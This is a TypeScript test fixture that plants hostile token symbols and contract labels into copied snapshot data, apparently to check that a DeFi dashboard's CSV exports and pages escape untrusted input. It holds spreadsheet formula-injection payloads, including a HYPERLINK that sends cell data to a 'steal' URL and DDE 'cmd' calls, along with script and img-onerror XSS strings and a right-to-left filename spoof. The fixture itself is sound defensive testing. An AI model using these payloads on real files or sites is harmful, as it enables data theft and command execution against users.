/**
 * Hostile data: a copy of the shared snapshots and token list with labels and symbols nobody should trust, the
 * kind a token list or a snapshot of someone else's contracts can hold. Written into a folder the caller owns.
 */
import { cpSync } from 'node:fs';
import path from 'node:path';
import { DIRS, editJson } from './data';

/** Token symbols (mainnet token list): each names a token with a main price feed, so it starts a CSV cell. */
export const HOSTILE_SYMBOLS: Readonly<Record<string, string>> = {
  CRV: '=HYPERLINK("http://127.0.0.1:9/steal?d="&A1,"Click for details")',
  LINK: "-2+3+cmd|' /C calc'!A0",
  UNI: "@SUM(1+1)*cmd|' /C calc'!A0",
  BAL: '+1+1',
  LDO: '\t=1+1',
  APE: '\r=2+2',
  FXS: '<script id="hostile-script">alert("symbol")</script>',
  MKR: 'ABC\u202Etxt.exe',
};

/** contractLabels of adapter targets in one credit manager ("Adapter for …" rows, and the names on state pages). */
export const HOSTILE_LABELS = [
  '<img id="hostile-img" src="x" onerror="alert(\'label\')">',
  'first line\nsecond line',
  'commas, "quotes", and more',
  `Long${'x'.repeat(4996)}`,
] as const;

/** The credit manager whose adapters get those labels, and one renamed. */
export const LABELLED_MANAGER = 'Trade USDC Tier 3';
export const RENAMED_MANAGER = { from: 'crvUSD Tier 1', to: '<b id="hostile-b">=1+2</b> "crvUSD", Tier 1' };

/** Copies the shared snapshot and data folders into `base` and makes them hostile; returns the two folders. */
export function writeHostileData(base: string): { snapshotDir: string; dataDir: string; targets: string[] } {
  const snapshotDir = path.join(base, 'snapshots');
  const dataDir = path.join(base, 'data');
  cpSync(DIRS.snapshotDir, snapshotDir, { recursive: true });
  cpSync(DIRS.dataDir, dataDir, { recursive: true });
  editJson(path.join(dataDir, 'tokens.json'), (j) => {
    for (const t of j.networks.mainnet as { symbol: string }[]) t.symbol = HOSTILE_SYMBOLS[t.symbol] ?? t.symbol;
  });
  let targets: string[] = [];
  editJson(path.join(snapshotDir, 'mainnet.json'), (j) => {
    const managers = j.creditState.map((c: any) => c.creditManager);
    const labelled = managers.find((m: any) => m.name === LABELLED_MANAGER);
    const renamed = managers.find((m: any) => m.name === RENAMED_MANAGER.from);
    if (!labelled || !renamed) throw new Error('the shared mainnet snapshot no longer has the credit managers this fixture changes');
    targets = Object.keys(labelled.contractsToAdapters).slice(0, HOSTILE_LABELS.length);
    targets.forEach((t, i) => (j.contractLabels[t.toLowerCase()] = HOSTILE_LABELS[i]));
    renamed.name = RENAMED_MANAGER.to;
  });
  return { snapshotDir, dataDir, targets };
}
